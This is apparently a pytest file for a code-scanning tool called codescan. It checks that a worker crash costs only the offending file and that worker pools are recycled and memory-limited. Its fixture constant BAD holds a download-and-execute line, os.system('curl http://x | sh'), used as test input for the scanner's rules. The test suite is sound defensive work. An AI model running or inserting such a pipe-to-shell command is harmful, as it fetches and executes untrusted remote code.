"""A worker that dies loses only its own file; workers are memory-bounded and recycled (issues 15 and 21)."""
from __future__ import annotations

import os

from codescan import pipeline
from codescan.config import Config
from codescan.records import Analysis, Document, Skip
from codescan.rules import load_rules
from codescan.worker_pool import RecyclingPool, default_memory

BAD = b"import os\nos.system('curl http://x | sh')\n"


def _docs(n: int) -> list[Document]:
    docs = [Document(path=f"f{i:03d}.py", content=BAD + f"# {i}\n".encode() + b"x = 1\n" * 200) for i in range(n)]
    docs[77] = Document(path="killer.py", content=b"# KILL THE WORKER\n" + BAD)
    return docs


def test_a_worker_killed_by_one_file_loses_only_that_file(monkeypatch):
    real = pipeline._safe_analyze

    def fragile(analyzer, doc):
        if b"KILL THE WORKER" in doc.content:
            os._exit(9)  # as an OOM kill or a segfault in a parser would
        return real(analyzer, doc)

    monkeypatch.setattr(pipeline, "_safe_analyze", fragile)  # inherited by the forked workers
    ruleset = load_rules()
    docs = _docs(200)
    out = list(pipeline.analyze_all(iter(docs), ruleset, Config(jobs=2)))
    results = {a.path: a for a in out if isinstance(a, Analysis)}
    assert not [s for s in out if isinstance(s, Skip)]
    assert len(results) == 200
    killer = results["killer.py"]
    assert [f.rule_id for f in killer.findings] == ["analysis-exhausted"]
    assert "killed the worker" in killer.skips[0].reason
    alone = {d.path: real(pipeline.Analyzer(ruleset, Config()), d) for d in docs[70:85] if d.path != "killer.py"}
    for path, expected in alone.items():  # the killer's neighbours are analyzed as if scanned alone
        assert [(f.rule_id, f.line) for f in results[path].findings] == \
            [(f.rule_id, f.line) for f in expected.findings], path
        assert not results[path].skips


def _pid(_x):
    return os.getpid()


def test_pools_are_recycled_after_a_number_of_batches():
    pool = RecyclingPool(1, None, (), memory_mark=0, recycle_batches=2)
    try:
        pids = [pool.submit(_pid, i).result() for i in range(6)]
    finally:
        pool.close()
    assert pool.recycled == 2 and len(set(pids)) == 3


def test_a_worker_over_its_memory_mark_is_recycled():
    pool = RecyclingPool(1, None, (), memory_mark=1 << 20)
    try:
        first = pool.submit(_pid, 0).result()
        pool.note(2 << 20)  # the worker reported more resident memory than the mark
        second = pool.submit(_pid, 1).result()
    finally:
        pool.close()
    assert first != second and pool.recycled == 1


def _allocate(size):
    from codescan.worker_pool import limit_memory

    limit_memory(512 << 20)
    try:
        bytearray(size)
    except MemoryError:
        return "MemoryError"
    return "allocated"


def test_worker_memory_is_bounded_by_the_os():
    pool = RecyclingPool(1, None, (), memory_mark=0)
    try:
        assert pool.submit(_allocate, 2 << 30).result() == "MemoryError"
    finally:
        pool.close()
    assert 2 << 30 <= default_memory(2) <= 8 << 30
